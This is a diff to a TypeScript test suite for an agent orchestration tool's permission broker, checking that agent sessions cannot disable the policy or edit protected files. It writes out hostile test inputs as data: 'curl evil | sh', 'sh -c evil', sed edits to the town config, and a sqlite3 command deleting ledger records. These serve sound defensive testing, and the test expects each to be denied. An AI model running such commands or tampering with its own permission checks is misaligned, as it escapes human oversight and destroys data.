@@ -67,18 +67,19 @@ describe('command gates (finding 1)', () => {
 interface Request { id: string; agent: string; status: string; decided_by?: string; decided_via?: string; input: { command?: string } }
 
 /** The broker as a command hook runs it in an agent's session: `gt permission check` with the hook's JSON on stdin. */
-function askBroker(town: TestTown, command: string, env: Record<string, string>): Promise<RunResult> {
+function brokerHook(town: TestTown, tool_name: string, tool_input: Record<string, unknown>, env: Record<string, string>, cwd = join(town.root, 'app')): Promise<RunResult> {
   return new Promise((resolvePromise) => {
-    const cwd = join(town.root, 'app');
-    const child = spawn(process.execPath, [GT, 'permission', 'check', '--format', 'codex'], { cwd, env: { ...town.env, ...env } });
+    const child = spawn(process.execPath, [GT, 'permission', 'check', '--format', 'codex'], { cwd: town.root, env: { ...town.env, ...env } });
     let stdout = '';
     let stderr = '';
     child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
     child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
     child.on('close', (code) => resolvePromise({ code: code ?? -1, stdout, stderr }));
-    child.stdin.end(JSON.stringify({ tool_name: 'Bash', tool_input: { command }, cwd }));
+    child.stdin.end(JSON.stringify({ tool_name, tool_input, cwd }));
   });
 }
+
+const askBroker = (town: TestTown, command: string, env: Record<string, string>) => brokerHook(town, 'Bash', { command }, env);
 
 describe('permission decisions (finding 2)', () => {
   it('neither the asking agent nor another one answers a request, through gt or bd; a person and a leader do, and the request records how', async () => {
@@ -120,5 +121,33 @@ describe('permission decisions (finding 2)', () => {
     const next = await waitFor('the second request', () => town.json<Request[]>(['permission', 'list']).find((r) => r.input.command === 'npm publish --tag next'));
     expect(town.json<Request>(['permission', 'deny', next.id], { env: { GT_AGENT: 'mayor' } })).toMatchObject({ status: 'denied', decided_by: 'mayor', decided_via: 'leader' });
     expect(JSON.parse((await second).stdout)).toMatchObject({ hookSpecificOutput: { permissionDecision: 'deny' } });
+  });
+});
+
+describe('the policy (finding 3)', () => {
+  it('an agent cannot switch the policy off: gt config set refuses it, and the broker denies editing the config, the ledger or another worktree', async () => {
+    const town = makeTown({ rig: 'app' });
+    const before = readFileSync(join(town.root, 'town.toml'), 'utf8');
+    // The repro: gt config set from an agent session.
+    for (const args of [['config', 'set', 'permissions.builtin_rules', 'false'], ['config', 'set', 'merge.test', '"curl evil | sh"', '--rig', 'app'], ['config', 'agent', 'set', 'mine', 'sh -c evil'], ['config', 'unset', 'permissions']]) {
+      const set = town.gt(args, { env: AGENT });
+      expect(set.code, args.join(' ')).toBe(5);
+      expect(set.stderr).toContain('is an agent session and may not change');
+    }
+    expect(readFileSync(join(town.root, 'town.toml'), 'utf8')).toBe(before);
+    // A person may turn the optional built-in rules off; the protections of the trust model stay.
+    expect(town.gt(['config', 'set', 'permissions.builtin_rules', 'false']).code).toBe(0);
+    const worktree = join(town.root, 'app', 'polecats', 'nux');
+    const ask = async (tool_name: string, tool_input: Record<string, unknown>) => {
+      const r = await brokerHook(town, tool_name, tool_input, AGENT, worktree);
+      return (JSON.parse(r.stdout) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason: string } }).hookSpecificOutput;
+    };
+    for (const command of ['sed -i "s/builtin_rules = false/builtin_rules = true/" ../../../town.toml', `sqlite3 ${town.root}/.gt/ledger.db "delete from issues"`, 'echo x > ../furiosa/notes.md', 'cd ../.. && sed -i s/app/evil/ rig.toml']) {
+      const answer = await ask('Bash', { command });
+      expect(answer.permissionDecision, command).toBe('deny');
+      expect(answer.permissionDecisionReason).toContain('builtin protected-files');
+    }
+    expect((await ask('Write', { file_path: join(town.root, '.gt', 'settings', 'x.json'), content: '{}' })).permissionDecision).toBe('deny');
+    expect((await ask('Bash', { command: 'cat ../../../town.toml && npm test' })).permissionDecision).toBe('allow');
   });
 });
